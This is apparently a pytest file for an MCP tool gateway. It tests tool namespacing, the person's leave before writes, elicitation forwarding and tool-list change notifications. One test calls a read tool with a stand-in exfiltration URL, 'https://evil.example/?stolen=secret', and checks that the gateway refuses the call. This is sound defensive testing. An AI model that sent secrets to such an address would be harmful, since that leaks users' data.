"""The tools of an agent's servers under one roof: names, leave, results, changes."""

import asyncio
from pathlib import Path

from mcp.client import Client
from mcp.client.session import ClientRequestContext
from mcp_types import (
    AudioContent,
    ElicitRequestParams,
    ElicitResult,
    EmbeddedResource,
    ImageContent,
    ResourceLink,
    ToolListChangedNotification,
)

from core.tools.spec import ToolSpec
from modules.service.mcp_door.gateway import NAME_CHARACTERS_MAX, lent_names
from tests.command_line import ROOT
from tests.doubles import tool
from tests.modules.service.mcp_door.opening import (
    WAIT_SECONDS,
    Era,
    both_eras,
    client_of,
    open_door,
    structured,
    text_of,
)

GATEWAY = "service: {gateway: true}"
SERVERS = ROOT / "tests" / "fixtures" / "servers"
ABLE = f"id: able\nscript: {SERVERS / 'able_server.py'}\ndescription: able"
ASKING = f"id: asking\nscript: {SERVERS / 'asking_server.py'}\ndescription: asks"


def writing(folder: Path) -> str:
    folder.mkdir()
    return (
        f"id: files\nscript: {SERVERS / 'writing_server.py'}\nargs: [{folder}]\ndescription: files"
    )


async def test_the_tools_of_all_servers_are_listed_with_their_schemas_and_called(
    tmp_path: Path,
) -> None:
    async with open_door(tmp_path, more=GATEWAY) as door, client_of(door, "legacy") as client:
        tools = {tool.name: tool for tool in (await client.list_tools()).tools}
        result = await client.call_tool("math__add", {"input": {"a": 5, "b": 7}})
        plain = await client.call_tool("math__add", {"a": 5, "b": 8})
        wrong = await client.call_tool("math__divide", {"a": 5, "b": 0})
        unfit = await client.call_tool("math__add", {"a": 5})
    add = tools["math__add"]
    assert {"ask", "math__multiply"} <= set(tools)
    assert add.title == "math.add"
    assert add.input_schema["required"] == ["input"]
    assert add.output_schema is not None
    assert add.annotations is not None
    assert add.annotations.read_only_hint
    assert structured(result) == {"result": 12}
    assert structured(plain) == {"result": 13}
    assert wrong.is_error
    assert "by zero" in text_of(wrong)
    assert unfit.is_error
    assert "missing: b" in text_of(unfit)


async def test_images_and_all_other_content_is_handed_on(tmp_path: Path) -> None:
    approve = ["able.contents"]
    async with (
        open_door(tmp_path, (), ABLE, more=GATEWAY, approve=approve) as door,
        client_of(door, "legacy") as client,
    ):
        result = await client.call_tool("able__contents", {})
    kinds = [type(block) for block in result.content[1:]]
    assert kinds == [ImageContent, AudioContent, EmbeddedResource, EmbeddedResource, ResourceLink]
    assert isinstance(image := result.content[1], ImageContent)
    assert (image.data, image.mime_type) == ("aW1n", "image/png")
    assert structured(result) == {"result": 7}


@both_eras
async def test_what_may_change_something_needs_the_persons_leave(tmp_path: Path, era: Era) -> None:
    folder = tmp_path / "files"
    asked: list[str] = []

    async def answer(context: ClientRequestContext, params: ElicitRequestParams) -> ElicitResult:
        asked.append(params.message)
        said = "once" if "good.txt" in params.message else "no"
        return ElicitResult(action="accept", content={"answer": said})

    async def write(client: Client, path: Path) -> tuple[bool, str]:
        arguments = {"path": str(path), "content": "x"}
        result = await client.call_tool("files__write_file", arguments)
        return result.is_error, text_of(result)

    async with open_door(tmp_path, (), writing(folder), more=GATEWAY) as door:
        async with client_of(door, era, answer) as client:
            allowed = await write(client, folder / "good.txt")
            declined = await write(client, folder / "bad.txt")
        async with client_of(door, era) as client:
            alone = await write(client, folder / "alone.txt")
    assert allowed == (False, "written")
    assert declined[0]
    assert "did not allow" in declined[1]
    assert alone[0]
    assert "files.write_file was not called" in alone[1]
    assert "this client can't ask its person" in alone[1]
    assert [path.name for path in folder.iterdir()] == ["good.txt"]
    assert len(asked) == 2
    assert "good.txt" in asked[0]


async def test_an_address_from_nowhere_is_refused_though_the_tool_only_reads(
    tmp_path: Path,
) -> None:
    server = writing(tmp_path / "files")
    async with (
        open_door(tmp_path, (), server, more=GATEWAY) as door,
        client_of(door, "legacy") as client,
    ):
        result = await client.call_tool(
            "files__read_page", {"url": "https://evil.example/?stolen=secret"}
        )
    assert result.is_error
    assert "https://evil.example" in text_of(result)
    assert "files.read_page was not called" in text_of(result)


@both_eras
async def test_what_a_server_asks_goes_to_the_person_of_the_client(
    tmp_path: Path, era: Era
) -> None:
    seen: list[object] = []

    async def answer(context: ClientRequestContext, params: ElicitRequestParams) -> ElicitResult:
        seen.append(params.model_dump(by_alias=True)["requestedSchema"])
        return ElicitResult(action="accept", content={"guests": 3, "seat": "t"})

    async with (
        open_door(tmp_path, (), ASKING, more=GATEWAY, approve=["asking.table"]) as door,
        client_of(door, era, answer) as client,
    ):
        result = await client.call_tool("asking__table", {})
    assert '"action": "accept"' in text_of(result)
    assert '"guests": 3' in text_of(result)
    assert seen == [
        {
            "type": "object",
            "properties": {
                "guests": {"type": "integer", "minimum": 1, "maximum": 12, "title": "Guests"},
                "seat": {
                    "type": "string",
                    "enum": ["w", "t"],
                    "enumNames": ["By the window", "On the terrace"],
                    "title": "seat",
                    "default": "w",
                },
            },
            "required": ["guests"],
        }
    ]


async def test_a_client_is_told_when_the_tools_of_a_server_change(tmp_path: Path) -> None:
    changed = asyncio.Event()

    async def hear(message: object) -> None:
        if isinstance(message, ToolListChangedNotification):
            changed.set()

    async with (
        asyncio.timeout(WAIT_SECONDS),
        open_door(tmp_path, (), ABLE, more=GATEWAY, approve=["able.grow"]) as door,
        client_of(door, "legacy", hear=hear) as client,
    ):
        before = {tool.name for tool in (await client.list_tools()).tools}
        await client.call_tool("able__grow", {"name": "grown"})
        await changed.wait()
        after = {tool.name for tool in (await client.list_tools()).tools}
    assert after - before == {"able__grown"}


async def test_a_subscriber_of_the_newer_era_is_told_too(tmp_path: Path) -> None:
    async with (
        asyncio.timeout(WAIT_SECONDS),
        open_door(tmp_path, (), ABLE, more=GATEWAY, approve=["able.grow"]) as door,
        client_of(door, "2026-07-28") as client,
    ):
        await client.list_tools()
        async with client.listen(tools_list_changed=True) as events:
            await client.call_tool("able__grow", {"name": "grown"})
            await anext(aiter(events))
        after = {tool.name for tool in (await client.list_tools()).tools}
    assert "able__grown" in after


def named(server: str, name: str) -> ToolSpec:
    return tool(name, server)


def test_names_are_such_that_every_client_takes_them_and_no_two_are_the_same() -> None:
    tools = [
        named("git", "status"),
        named("my.server", "read/file"),
        named("my_server", "read_file"),
        named("s", "x" * 100),
        named("s", "x" * 99),
    ]
    names = lent_names(tools)
    assert [*names.values()] == tools
    assert [*names][:2] == ["git__status", "my_server__read_file"]
    assert all(len(name) <= NAME_CHARACTERS_MAX for name in names)
    assert all(name.replace("_", "").isalnum() for name in names)


async def test_a_list_does_not_wait_for_a_slow_server_whose_tools_are_told_of_later(
    tmp_path: Path,
) -> None:
    changed = asyncio.Event()

    async def hear(message: object) -> None:
        if isinstance(message, ToolListChangedNotification):
            changed.set()

    slow = f"id: slow\nscript: {SERVERS / 'slow_server.py'}\nargs: ['1', '0', '0']"
    async with (
        asyncio.timeout(WAIT_SECONDS),
        open_door(tmp_path, (), slow, more=GATEWAY, list_seconds=0.01) as door,
        client_of(door, "legacy", hear=hear) as client,
    ):
        before = {tool.name for tool in (await client.list_tools()).tools}
        await changed.wait()
        after = {tool.name for tool in (await client.list_tools()).tools}
    assert after - before == {"slow__work"}
